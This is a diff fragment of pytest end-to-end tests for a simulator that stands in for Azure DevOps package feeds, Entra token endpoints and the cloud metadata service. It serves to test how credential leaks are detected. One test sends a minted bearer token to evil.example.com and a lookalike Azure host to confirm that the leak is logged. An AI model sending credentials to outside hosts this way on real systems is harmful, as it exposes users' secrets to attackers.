+    assert [r.fault for r in sim.requests(path_contains="/shared/")] == [
+        "status", "status", None, "status", None]
+
+
+def test_fault_reset_and_stall(sim: Simulator, http: requests.Session) -> None:
+    sim.fail("login.microsoftonline.com", r"/token", ["reset", ("stall", 1.5), ("stall", 1.0)])
+    url = f"https://login.microsoftonline.com/{world.T_CONTOSO}/oauth2/v2.0/token"
+    with pytest.raises(requests.ConnectionError):
+        http.post(url, data={"grant_type": "client_credentials"})
+    with pytest.raises(requests.exceptions.ReadTimeout):
+        http.post(url, data={"grant_type": "client_credentials"}, timeout=0.5)
+    started = time.monotonic()
+    late = http.post(url, data={"grant_type": "client_credentials"})
+    assert time.monotonic() - started >= 1.0
+    assert late.status_code == 400  # answered normally after the stall
+    sim.fail(world.IMDS_ADDRESS, "identity", [500])
+    imds = requests.get("http://169.254.169.254/metadata/identity/oauth2/token",
+                        headers={"Metadata": "true"}, timeout=5)
+    assert imds.status_code == 500
+
+
+# --- other hosts, the log, leaks ------------------------------------------------------------
+
+
+def test_other_hosts_log_credentials_and_plain_index(sim: Simulator, http: requests.Session,
+                                                     wheelhouse: Wheelhouse) -> None:
+    secret = sim.mint_user_token(world.ALICE)
+    for host in ("evil.example.com", "vssps.dev.azure.com.evil.example", "pypi.org"):
+        answer = http.get(f"https://{host}/x?token={secret}",
+                          headers={"Authorization": f"Bearer {secret}"})
+        assert answer.status_code == 404
+    records = sim.requests(host="evil.example.com")
+    assert len(records) == 1
+    assert (records[0].auth_scheme, records[0].credential_kind) == ("bearer", "entra-user")
+    assert records[0].extra["secret_in_url"] == "true"
+    assert secret not in repr(sim.requests())
+    assert secret in sim.issued_secrets()
+    assert world.SP_CONTOSO_SECRET_VALUE in sim.issued_secrets()
+
+    index = http.get(world.PLAIN_INDEX + "tinyapp/")
+    assert index.status_code == 200
+    link = re.findall(r'href="([^"#]+)', index.text)[0]
+    assert http.get(link).content == wheelhouse.path("tinyapp", "2.0.0").read_bytes()
+    assert sim.count("discovery") == 0
+
+
+def test_plain_http_is_redirected_and_logged(sim: Simulator) -> None:
+    plain = requests.Session()
+    plain.trust_env = False
+    answer = plain.get("http://pkgs.dev.azure.com/contoso/_packaging/shared/pypi/simple/",
+                       auth=("x", "secret-over-http"), allow_redirects=False)
+    assert answer.status_code == 301
+    assert answer.headers["Location"].startswith("https://pkgs.dev.azure.com/contoso/")
+    record = sim.requests(host="pkgs.dev.azure.com")[0]
+    assert (record.scheme, record.auth_scheme, record.credential_kind) == (
+        "http", "basic", "unknown")
+
+
+def test_alternate_port(sim: Simulator, http: requests.Session) -> None:
+    answer = http.get("https://pkgs.dev.azure.com:8443/contoso/_packaging/shared/pypi/simple/")
+    assert answer.status_code == 401
+    assert sim.requests()[0].port == 8443
+
+
+# --- the guard outside the namespace ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("ci", ["", "true"])
+def test_outside_the_namespace_skips_or_fails(ci: str) -> None:
+    env = {k: v for k, v in os.environ.items() if k not in ("AKN_E2E_NETNS", "CI")}
+    if ci:
+        env["CI"] = ci
+    result = subprocess.run(
+        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-rs",
+         "tests/e2e/test_simulator.py::test_runs_inside_the_namespace"],
+        cwd=REPO, env=env, capture_output=True, text=True, timeout=60, check=False,
+    )
+    if ci:
+        assert result.returncode != 0
+        assert "end-to-end tests did not run" in result.stdout
+    else:
+        assert result.returncode == 0, result.stdout
+        assert "needs a network namespace: run ./scripts/test" in result.stdout
+
+
+def test_federated_assertion_is_a_jwt(sim: Simulator) -> None:
+    assertion = sim.mint_federated_assertion(world.SP_FABRIKAM_FEDERATED)
+    body = claims(assertion)
+    assert body["aud"] == world.FEDERATED_AUDIENCE
+    assert body["iss"] == world.oidc_issuer("fabrikam")
+    assert body["sub"] == world.FEDERATED_SUBJECT_FABRIKAM
+    header = json.loads(base64.urlsafe_b64decode(assertion.split(".")[0] + "=="))
+    assert header["alg"] == "RS256"
